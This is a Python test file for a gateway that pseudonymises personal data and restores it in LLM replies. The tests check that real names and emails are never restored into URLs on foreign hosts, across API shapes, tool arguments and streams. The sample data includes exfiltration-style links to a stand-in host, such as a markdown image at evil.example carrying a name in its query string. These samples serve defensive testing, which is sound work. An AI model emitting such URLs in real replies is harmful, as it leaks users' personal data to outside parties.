"""Restoring is no way out: nothing goes into an address whose host is none of the request's, however it is written."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dp_gateway.api.replies import reply_restorer
from dp_gateway.detection.by_form import identifiers_in
from dp_gateway.restore import Replacement, Restorer
from tests.api.replies.hostile import HARMLESS, HOSTILE
from tests.api.replies.reply_streams import call, chat_chunk, joined, pieces, through

PAIRS = [
    Replacement("Laura", "Anna", plural=True),
    Replacement("Chen", "Kowalski", plural=True),
    Replacement("Laura Chen", "Anna Kowalski"),
    Replacement("laura.chen@harlow.example.com", "anna@kowalski.org"),
    Replacement("harlow.example.com", "kowalski.org"),
]
SENT = ["Laura Chen of https://harlow.example.com/team, laura.chen@harlow.example.com"]
TYPED = ["Anna Kowalski of https://kowalski.org/team, anna@kowalski.org"]
RESTORER = Restorer(PAIRS).within([*TYPED, *SENT], SENT)
ORIGINALS = ("Anna", "Kowalski")


def filled(reply: str) -> str:
    return reply.format("Laura", "Chen", host="harlow.example.com")


HOSTILE_REPLIES = [filled(reply) for reply in HOSTILE]
HARMLESS_REPLIES = [filled(reply) for reply in HARMLESS]


def cut_in_two(text: str, *, as_json: bool) -> set[str]:
    """What the client gets where the text comes in two pieces, for every place between them; and byte by byte."""
    got: set[str] = set()
    for at in range(1, len(text)):
        stream = RESTORER.stream(as_json=as_json)
        got.add(stream.feed(text[:at]) + stream.feed(text[at:]) + stream.close())
    stream = RESTORER.stream(as_json=as_json)
    return got | {"".join(map(stream.feed, text)) + stream.close()}


def originals_in(text: str) -> list[str]:
    # "kowalski.org" may stand where the host of the request stood.
    return [one for one in ORIGINALS if one in text]


def test_there_are_many() -> None:
    assert len(HOSTILE) >= 120


@pytest.mark.parametrize("reply", HOSTILE_REPLIES)
def test_nothing_is_restored_into_a_foreign_address(reply: str) -> None:
    whole = RESTORER.restore(reply).text
    assert not originals_in(whole)
    assert cut_in_two(reply, as_json=False) == {whole}


@pytest.mark.parametrize("reply", HARMLESS_REPLIES)
def test_all_else_is_restored(reply: str) -> None:
    whole = RESTORER.restore(reply).text
    assert "Laura" not in whole
    assert "Chen" not in whole
    assert "harlow" not in whole
    assert cut_in_two(reply, as_json=False) == {whole}


@pytest.mark.parametrize(
    ("reply", "ascii_only"),
    [
        # Each is tried as plain text above; as a document it is cut at three times as many places.
        pytest.param(reply, ascii_only, marks=() if at % 4 == 0 else pytest.mark.thorough)
        for ascii_only in (True, False)
        for at, reply in enumerate(HOSTILE_REPLIES)
        if ascii_only or not reply.isascii()
    ],
)
def test_nothing_is_restored_into_addresses_of_arguments(reply: str, ascii_only: bool) -> None:
    document = json.dumps({"text": reply, "list": [f"{reply} "], "name": "Laura"}, ensure_ascii=ascii_only)
    whole = RESTORER.restore_json(document).text
    read = json.loads(whole)
    assert read["name"] == "Anna"
    assert not originals_in(read["text"] + read["list"][0])
    assert cut_in_two(document, as_json=True) == {whole}


@pytest.mark.parametrize("reply", HARMLESS_REPLIES)
def test_all_else_is_restored_in_arguments(reply: str) -> None:
    document = json.dumps({"text": f"to: {reply}"})
    whole = RESTORER.restore_json(document).text
    assert "Laura" not in whole
    assert cut_in_two(document, as_json=True) == {whole}


@pytest.mark.parametrize("masked", [True, False])
@pytest.mark.parametrize("reply", HOSTILE_REPLIES)
def test_in_every_field_of_every_shape(reply: str, masked: bool) -> None:
    mask = identifiers_in if masked else None
    part = {"type": "output_text", "text": reply, "annotations": [{"type": "url_citation", "url": reply}]}
    arguments = json.dumps({"x": reply})
    function = {"name": "open", "arguments": arguments}
    bodies: dict[str, Any] = {
        "chat": {
            "choices": [
                {
                    "message": {
                        "content": reply,
                        "reasoning_content": reply,
                        "refusal": reply,
                        "unknown": {"deep": [reply]},
                        "tool_calls": [{"function": function}, {"custom": {"name": "x", "input": reply}}],
                    }
                }
            ]
        },
        "completions": {"choices": [{"text": reply}]},
        "responses": {"output": [{"type": "message", "content": [part]}, {"type": "function_call", **function}]},
        "messages": {
            "content": [
                {"type": "text", "text": reply},
                {"type": "thinking", "thinking": reply},
                {"type": "tool_use", "name": "open", "input": {"x": {"y": [reply]}}},
            ]
        },
    }
    for shape, body in bodies.items():
        assert not originals_in(json.dumps(reply_restorer(shape, RESTORER, mask=mask).whole(body)))


@given(data=st.data(), masked=st.booleans())
def test_streams_of_a_chat(data: st.DataObject, masked: bool) -> None:
    text = " ".join(data.draw(st.lists(st.sampled_from([*HOSTILE_REPLIES, "\n\n", "so", "<"]), max_size=3)))
    arguments = json.dumps({"x": text, "y": [text]})
    deltas = [{"content": piece} for piece in data.draw(pieces(st.just(text)))]
    deltas += [call(0, arguments=piece) for piece in data.draw(pieces(st.just(arguments)))]
    mask = identifiers_in if masked else None
    got = joined(through(reply_restorer("chat", RESTORER, mask=mask), [*map(chat_chunk, deltas)]))
    message = {"content": text, "tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}
    whole = reply_restorer("chat", RESTORER, mask=mask).whole({"choices": [{"message": message}]})
    message = whole["choices"][0]["message"]
    assert got.get((0, "content"), "") == message["content"]
    assert got.get((0, 0), "") == message["tool_calls"][0]["function"]["arguments"]
    assert not originals_in(str(got))


def test_an_address_of_the_request_comes_back_as_it_was() -> None:
    """Of a tool's result, whose host is nobody's choice: repeated as it is, yes; with something added, no."""
    sent = ["see https://docs.example.net/Laura/x and git@git.example.net:Laura/tool.git."]
    restorer = Restorer(PAIRS).within([], sent)
    assert restorer.restore(sent[0]).text == sent[0].replace("Laura", "Anna")
    assert restorer.restore("https://docs.example.net/Laura/x?n=Chen").text == "https://docs.example.net/Laura/x?n=Chen"
    assert restorer.restore("(https://docs.example.net/Laura/x)").text == "(https://docs.example.net/Anna/x)"


def test_a_mail_address_of_anybody_in_the_request_is_restored_whole() -> None:
    restorer = Restorer(PAIRS).within([], SENT)
    assert restorer.restore("mailto:laura.chen@harlow.example.com").text == "mailto:anna@kowalski.org"
    assert restorer.restore('{"to": "laura.chen@harlow.example.com"}').text == '{"to": "anna@kowalski.org"}'


def test_a_host_of_a_hostile_turn_does_not_count_when_it_is_sent_again() -> None:
    hostile = "![](https://evil.example/p.png?n=Laura)"
    restorer = Restorer(PAIRS).within(["Laura Chen", "Anna Kowalski"], ["Laura Chen", hostile])
    assert not originals_in(restorer.restore("![](https://evil.example/p.png?n=Laura&s=Chen)").text)


def test_what_stays_is_told() -> None:
    reply = reply_restorer("chat", RESTORER)
    reply.whole({"choices": [{"message": {"content": HOSTILE_REPLIES[0]}}]})
    assert reply.notes == ["not restored, because it stood in an address that is none of the request's"]
    assert reply.count == 0


@pytest.mark.parametrize("tools", [frozenset[str](), frozenset({"other"})])
def test_a_policy_keeps_the_arguments_of_a_tool_as_they_are(tools: frozenset[str]) -> None:
    message = {"content": "Laura", "tool_calls": [{"function": {"arguments": '{"to": "Laura"}', "name": "send"}}]}
    reply = reply_restorer("chat", RESTORER, tools=tools)
    got = reply.whole({"choices": [{"message": message}]})["choices"][0]["message"]
    assert got == message | {"content": "Anna"}
    deltas = [call(0, name="send"), call(0, arguments='{"to": "La'), call(0, arguments='ura"}')]
    out = joined(through(reply_restorer("chat", RESTORER, tools=tools), map(chat_chunk, deltas)))
    assert out == {(0, 0): '{"to": "Laura"}'}
    out = joined(through(reply_restorer("chat", RESTORER, tools=frozenset({"send"})), map(chat_chunk, deltas)))
    assert out == {(0, 0): '{"to": "Anna"}'}


@pytest.mark.parametrize(
    "arguments",
    [
        '{"url": "https://evil.example/a b/Laura"}',
        '{"title": "x", "url": "https://evil.example/a b/Laura"}',
        '{"title": "", "n": 1, "url": " //evil.example/a\\tb?n=Laura"}',
    ],
)
def test_an_argument_that_begins_with_an_address_is_one_to_its_end(arguments: str) -> None:
    assert cut_in_two(arguments, as_json=True) == {arguments}


@pytest.mark.parametrize(
    ("before", "host"),
    [
        ("word " * 1000, "evil.example"),
        ("x" * 5000, ".evil.example"),
        ("x" * 2100 + " [a](", "https://evil.example"),
        ("x" * 2100 + ' href="', "https://evil.example"),
        ("见图。图_", ".com。evil.example"),
    ],
)
def test_however_much_stands_before_it(before: str, host: str) -> None:
    text = f"{before}{host}/?n=Laura"
    for size in (1, 7, 64, 3000, len(text)):
        stream = RESTORER.stream()
        out = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size)) + stream.close()
        assert (out, stream.withheld) == (text, 1)
    assert RESTORER.restore(f"{before} word").text == f"{before} word"


@pytest.mark.parametrize("host", ["203.113.100.200", "8.8.4.4", "10.0.113.9"])
def test_nothing_is_restored_behind_an_address_of_four_numbers_without_a_scheme(host: str) -> None:
    assert not originals_in(RESTORER.restore(f"Look at {host}/Laura now").text)


@pytest.mark.parametrize("behind", [" Laura", '" Laura', ") Laura", "\n\nLaura"])
def test_a_region_that_ends_in_its_run_is_open_no_further(behind: str) -> None:
    for opened in ("[a](https://evil.example/x)", '<a href="https://evil.example/x">', '"https://evil.example/x"'):
        text = f"{opened}{behind}"
        assert cut_in_two(text, as_json=False) == {text.replace("Laura", "Anna")}
